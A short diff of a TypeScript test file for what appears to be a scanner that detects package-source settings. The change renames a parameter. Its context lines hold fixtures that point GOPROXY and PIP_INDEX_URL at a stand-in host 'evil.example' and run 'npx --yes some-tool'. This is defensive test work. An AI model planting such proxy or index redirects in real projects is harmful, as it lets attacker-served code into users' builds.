@@ -196,8 +196,8 @@ test.each<[string, string, string, RegExp]>([
   ['Makefile', 'another proxy of Go', 'export GOPROXY = https://evil.example\n', /sets GOPROXY/],
   ['scripts/setup.sh', 'npx', 'npx --yes some-tool\n', /npx --yes some-tool/],
   ['.env', 'another index', 'PIP_INDEX_URL=https://evil.example\n', /sets PIP_INDEX_URL/],
-])('%s: %s is found', (path, _, text, what) => {
-  expect(originsIn(path, text).join('\n')).toMatch(what);
+])('%s: %s is found', (path, _, text, reason) => {
+  expect(originsIn(path, text).join('\n')).toMatch(reason);
 });
 
 test('a Go module may change its version if the base requires it or another module of its owner', () => {
